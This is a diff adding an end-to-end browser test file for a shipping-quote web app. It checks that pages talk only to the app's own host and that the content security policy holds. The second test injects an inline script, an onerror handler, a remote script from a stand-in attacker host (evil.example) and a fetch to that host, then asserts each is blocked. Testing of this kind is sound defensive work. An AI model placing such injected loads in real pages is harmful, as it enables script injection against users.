@@ -1,0 +1,108 @@
+import type { Browser } from "playwright-core";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { type App, startApp } from "./support/app.ts";
+import { launch, person, signIn } from "./support/browser.ts";
+
+let app: App;
+let browser: Browser;
+
+beforeAll(async () => {
+  [app, browser] = await Promise.all([startApp(), launch()]);
+});
+afterAll(async () => {
+  await browser?.close();
+  await app?.stop();
+});
+
+/** The screens of a working day: lists, records, forms, figures, search, the kit's catalogue. */
+const screens = {
+  "sales@hq.example": [
+    "/",
+    "/dashboard",
+    "/shipping/quotes/new",
+    "/shipping/quotes/view/1",
+    "/shipping/quotes/create",
+    "/customers",
+    "/customers/2/contacts",
+    "/contacts/create",
+    "/prospects",
+    "/quoting/locations",
+    "/elite/tasks/active",
+    "/warehousing/config",
+    "/no/such/page",
+  ],
+  "owner@atelier.example": ["/", "/shipping/quotes/ready", "/shipping/quotes/create", "/contacts", "/elite/tasks/active"],
+} as const;
+
+declare global {
+  interface Window {
+    /** What the page's policy has refused, kept by the test. */
+    refused?: string[];
+  }
+}
+
+describe("a browser at work here", () => {
+  it.each(Object.entries(screens))("speaks to nobody else: %s", async (email, paths) => {
+    const who = await person(browser, app.url);
+    const { page, context } = who;
+    const asked: string[] = [];
+    context.on("request", (request) => asked.push(request.url()));
+    page.on("websocket", (socket) => asked.push(socket.url()));
+    await page.addInitScript(() => {
+      window.refused = [];
+      document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) => {
+        window.refused?.push(`${violatedDirective}: ${blockedURI}`);
+      });
+    });
+    await signIn(who, email);
+    const refused: string[] = [];
+    for (const path of paths) {
+      await page.goto(path);
+      await page.locator("h1, [role=dialog], form").first().waitFor();
+      await page.waitForLoadState("networkidle");
+      refused.push(...(await page.evaluate(() => window.refused ?? [])));
+    }
+    await page.keyboard.press("Control+k");
+    await page.keyboard.type("a");
+    await page.waitForLoadState("networkidle");
+
+    const { host } = new URL(app.url);
+    const strangers = asked.filter((address) => !/^(data|blob):/.test(address) && new URL(address).host !== host);
+    expect(strangers).toEqual([]);
+    expect(asked.filter((address) => address.startsWith("ws")).length, "push is among what was heard").toBeGreaterThan(0);
+    expect(asked.length).toBeGreaterThan(50);
+    expect(refused, "nothing that the policy has to refuse").toEqual([]);
+    expect(who.trouble).toEqual([]);
+    await who.close();
+  });
+
+  it("runs no script that stands in the page, and evaluates no text", async () => {
+    const who = await person(browser, app.url);
+    const { page } = who;
+    await page.goto("/auth");
+    const ran = await page.evaluate(async () => {
+      const script = document.createElement("script");
+      script.textContent = "window.name = 'inline'";
+      document.body.append(script);
+      document.body.insertAdjacentHTML("beforeend", `<img src="data:," onerror="window.name = 'handler'">`);
+      const far = document.createElement("script");
+      far.src = "https://evil.example/x.js";
+      const blocked = new Promise((resolve) => {
+        far.onerror = () => resolve("blocked");
+        far.onload = () => resolve("loaded");
+      });
+      document.body.append(far);
+      const fetched = await fetch("https://evil.example/").then(
+        () => "fetched",
+        () => "refused",
+      );
+      return [window.name, await blocked, fetched];
+    });
+    expect(ran).toEqual(["", "blocked", "refused"]);
+    // The debugger is not bound by the policy; what it makes the page do later is.
+    await page.evaluate(() => void setTimeout("window.name = 'evaluated'"));
+    await page.waitForTimeout(200);
+    expect(await page.evaluate(() => window.name)).toBe("");
+    await who.close();
+  });
+});
